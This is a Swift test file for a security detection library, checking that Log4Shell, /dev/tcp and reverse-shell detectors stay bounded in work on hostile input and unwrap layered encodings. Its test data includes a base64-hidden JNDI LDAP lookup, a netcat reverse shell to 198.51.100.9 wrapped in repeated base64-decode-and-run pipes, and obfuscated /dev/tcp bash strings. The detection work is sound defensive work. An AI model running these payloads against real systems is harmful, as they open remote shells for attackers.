import Bytes
import Foundation
import Testing

@testable import Detectors

/// Hostile text must cost what its length says. Steps are counted, not seconds.
@Suite struct WorkTests {
  private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

  @Test(arguments: ["R7am5ka", "JHtqbm", "revSkh0cWJt", "b64decodeJHske", "keyR7JHske"])
  func base64FullOfLeadsIsDecodedOnceForEachWayToGroupIt(lead: String) {
    let text = String(repeating: lead, count: (1 << 20) / lead.utf8.count)
    var judged = Log4ShellLeads.JudgedBase64()
    _ = text.withView { Log4ShellDetector().scan($0, .bytes, &judged) }
    // Four groupings, and windows that overlap by a sixteenth.
    #expect(judged.decoded <= text.utf8.count * 5, "\(judged.decoded)")
    #expect(judged.decoded > 0)
  }

  @Test func payloadBehindAHarmlessLeadIsSeen() {
    // The lead stands in the same run of digits but groups them otherwise.
    for before in ["/JHtqbn/", "/a/b/JHskex/", "x/R7am5kaQ/", ""] {
      let found = log4shell(before + base64("${jndi:ldap://h.example/a}"), .bytes)
      #expect(found?.host == "h.example", "\(before)")
    }
  }

  @Test func devicesOfOneCommandAskItOnce() {
    for (text, commands) in [
      (String(repeating: "/dev/tcp/a/1 ", count: 200), 1), (String(repeating: "/dev/tcp/a/1;", count: 200), 200),
    ] {
      text.withView { view in
        let facts = DevTCPMatcher.Facts(ShellText(view))
        #expect(DevTCPMatcher.matches(facts).isEmpty)
        #expect(facts.commandsAsked == commands)
      }
    }
  }

  @Test(arguments: [
    "%2fdev%2f''\\44;", "b\\ash\\44L2Rldi90Y3AvYS8xIAo=", "{echo,a} ${IFS}\\u0041 ?a=b%41+",
    "YmFzaCAtaSA+JiAvZGV2L3RjcC9hLzEK ",
  ])
  func layersGrowNoFurtherThanSomeTimesTheText(unit: String) {
    let text = String(repeating: unit, count: 10_000 / unit.utf8.count)
    let layers = text.withView { CommandLayers.unwrap($0) }
    let all = layers.reduce(0) { $0 + $1.text.count }
    #expect(all <= text.utf8.count * CommandLayers.maximumGrowth + 4096)
    #expect(!layers.isEmpty)
  }

  @Test func shortWrappingsAreUndoneToTheEnd() {
    var text = "nc -e /bin/sh 198.51.100.9 4242"
    for _ in 0..<8 { text = "echo \(base64(text)) | base64 -d | sh" }
    let found = text.withView { ReverseShellDetector().scan($0, .command) }
    #expect(found.first?.host == "198.51.100.9")
  }

  @Test func wordsAreFoundWhereTheyStandFirst() {
    let finder = WordFinder(["net.", "net.Dial", "connect(", "`", "con"])
    let numbers = finder.numbers(["net.Dial", "con", "`", "nothing"])
    #expect(numbers == [1, 4, 3])
    let places = "x net.D net.Dial` connect(".withView { finder.places(in: $0) }
    #expect(places == [2, 8, 18, 16, 18])
    #expect("".withView { finder.places(in: $0) } == [-1, -1, -1, -1, -1])
  }
}
